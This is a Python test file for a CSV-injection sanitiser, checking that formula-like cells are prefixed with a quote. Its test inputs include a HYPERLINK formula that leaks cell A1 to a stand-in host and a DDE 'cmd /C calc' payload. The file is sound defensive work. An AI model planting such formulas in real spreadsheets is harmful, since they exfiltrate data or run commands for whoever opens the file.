"""CSV injection: text cells a spreadsheet would run as formulas are neutralised."""

import csv
import io

import pytest

from playground.csvsafe import neutralise, to_csv_text

LINK = '=HYPERLINK("https://example.invalid/?leak="&A1,"Click me")'


@pytest.mark.parametrize(
    "text", [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
)
def test_formula_starts_get_a_leading_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Hello = world", " =1", "", "'quoted", 'say "hi"'])
def test_other_text_is_unchanged(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-0.5, -3, None, 1.25, True])
def test_numbers_and_empty_cells_stay_as_they_are(value):
    assert neutralise(value) is value


def test_csv_round_trip_keeps_the_text_but_not_the_formula():
    rows = [{"text": LINK, "note": 'line one\nline two, with "quotes"', "t": -0.5}]
    data = to_csv_text(rows)
    (row,) = csv.DictReader(io.StringIO(data))
    assert row == {"text": "'" + LINK, "note": rows[0]["note"], "t": "-0.5"}
    assert data.startswith("text,note,t\r\n\"'=HYPERLINK(")


def test_no_rows_no_csv():
    assert to_csv_text([]) == ""
